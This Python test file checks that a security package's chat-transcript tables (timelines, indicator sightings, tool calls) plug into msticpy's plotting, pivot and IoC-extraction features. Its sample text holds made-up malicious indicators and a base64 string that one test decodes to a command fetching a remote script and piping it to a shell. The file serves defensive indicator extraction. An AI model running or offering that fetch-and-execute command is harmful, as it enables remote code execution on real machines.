"""Our tables in msticpy, in an environment that has it: `python scripts/matrix.py --only msticpy`."""

from __future__ import annotations

import importlib.util
import json
import os
import re
import subprocess
import sys
import warnings
from collections import Counter
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd
import pytest

import secgemini_jupyter.accessor  # noqa: F401  # registers `df.secgemini`
from secgemini_jupyter.transcript.iocs import COLUMNS, MSTICPY_TYPES
from secgemini_jupyter.transcript.messages import messages_frame
from tests.transcript.frames import message, turn

if importlib.util.find_spec("msticpy") is None:
    pytest.skip("msticpy is in an environment of its own", allow_module_level=True)

pytestmark = pytest.mark.filterwarnings("default")  # those of others
ROOT = Path(__file__).parents[2]
SAID = (
    "45.83.64.9 and 10.0.0.7 asked https://evil-bank.com/a?q=1 of evil-bank.com; spam@evil-mail.org; "
    "d41d8cd98f00b204e9800998ecf8427e; Y3VybCBodHRwOi8vNDUuODMuNjQuOS94LnNoIHwgc2g="
)
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from bokeh.models import GlyphRenderer
    from msticpy.datamodel import entities
    from msticpy.init import mp_pandas_accessors  # noqa: F401  # registers `df.mp`
    from msticpy.init.pivot import Pivot  # registers `df.mp_pivot`, `df.mp_plot`
    from msticpy.transform.iocextract import IoCExtract


@pytest.fixture(scope="module")
def history() -> pd.DataFrame:
    asked = [
        message("query", "query", SAID, id="q1", at=60),
        message("result", "agent_done", "10.0.0.7", id="r1", at=61),
    ]
    return messages_frame([*turn(), *asked], session_id="s1")


@pytest.fixture(scope="module")
def pivots() -> Any:
    Pivot().reload_pivots()
    return entities


def drawn(picture: Any) -> Counter[str]:
    """How many points a picture has, by the lane that they are in."""
    sources = {glyphs.data_source for glyphs in picture.select({"type": GlyphRenderer})}
    lanes: Counter[str] = Counter()
    for source in sources:
        for name in ("kind", "where", "tool_name"):
            lanes.update(source.data.get(name, ()))
    return lanes


def test_it_draws_our_tables(history: pd.DataFrame) -> None:
    ours = history.secgemini
    events, sightings, calls = ours.timeline(), ours.sightings(), ours.tool_calls()
    picture = events.mp_plot.timeline(time_column="started_at", source_columns=["label", "kind"], group_by="kind")
    assert drawn(picture) == Counter(events["kind"])
    said = sightings.astype({"where": "string"})
    picture = said.mp_plot.timeline(time_column="seen_at", source_columns=["defanged", "where"], group_by="where")
    assert drawn(picture) == Counter(said["where"])
    picture = calls.mp_plot.timeline(time_column="started_at", source_columns=["tool_name"], group_by="tool_name")
    assert drawn(picture) == {"lookup_cve": 1, "lookup_asset": 1}
    assert said.mp_plot.matrix(x_col="where", y_col="type").x_range.factors == sorted(set(said["where"]))
    assert sightings.mp_plot.network(source_col="message_id", target_col="defanged", target_attrs=["type"]) is not None
    assert calls.mp_plot.timeline_values(value_column="duration_s", time_column="started_at") is not None


def test_indicators_go_into_its_pivots(history: pd.DataFrame, pivots: Any) -> None:
    iocs = history.secgemini.iocs()
    of = dict(list(iocs.groupby("type")))
    kinds = of["ipv4"].mp_pivot.run(pivots.IpAddress.util.ip_type, column="value", join="left")
    assert dict(zip(kinds["value"], kinds["result"], strict=True)) == {"45.83.64.9": "Public", "10.0.0.7": "Private"}
    assert set(COLUMNS) <= set(kinds.columns)
    parts = of["url"].mp_pivot.run(
        pivots.Url.util.url_components, column="value", join="left", left_on="value", right_on="url"
    )
    assert parts[["value", "host", "query"]].values.tolist() == [
        ["https://evil-bank.com/a?q=1", "evil-bank.com", "q=1"]
    ]
    decoded = history.secgemini.turns().mp.b64extract(column="prompt")
    assert "curl http://45.83.64.9/x.sh | sh" in set(decoded["decoded_string"])


def test_what_it_extracts_is_joined_with_ours(history: pd.DataFrame) -> None:
    assert set(MSTICPY_TYPES.values()) <= {*IoCExtract().ioc_types, "file_hash"}
    iocs = history.secgemini.iocs()
    theirs = history.mp.ioc_extract(columns=["content"]).drop_duplicates(["IoCType", "Observable"])
    both = iocs.assign(IoCType=iocs["type"].replace(MSTICPY_TYPES)).merge(
        theirs, left_on=["IoCType", "value"], right_on=["IoCType", "Observable"]
    )
    assert set(both["IoCType"]) == {"ipv4", "url", "dns", "email", "md5_hash"}
    assert json.loads(both.set_index("value").loc["10.0.0.7", "message_ids"]) == ["q1", "r1"]


@pytest.mark.kernel
def test_the_notebook_hands_over() -> None:
    import nbconvert

    shared = Path(nbconvert.__file__).parents[4] / "share" / "jupyter"  # in the environment that brings Jupyter
    done = subprocess.run(
        [sys.executable, "scripts/demo.py", "notebooks/07_hand_over.ipynb"],
        cwd=ROOT, env=os.environ | {"JUPYTER_PATH": str(shared)}, capture_output=True, text=True, timeout=300,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    assert re.search(r"192\[\.\]168\[\.\]33\[\.\]10 +Private", done.stdout)
    assert re.search(r"hnhmrkw\[\.\]myftp\[\.\]biz +4", done.stdout)
    assert re.search(r"dns +0 +0 +32\n", done.stdout)
    assert re.search(r"md5_hash +0 +0 +11\n", done.stdout)
    executed = nbformat.read(ROOT / "build" / "hand_over.ipynb", as_version=4)
    pictures = [
        output for cell in executed.cells for output in cell.get("outputs", ())
        if "application/vnd.bokehjs_exec.v0+json" in output.get("data", {})
    ]  # fmt: skip
    assert len(pictures) == 2
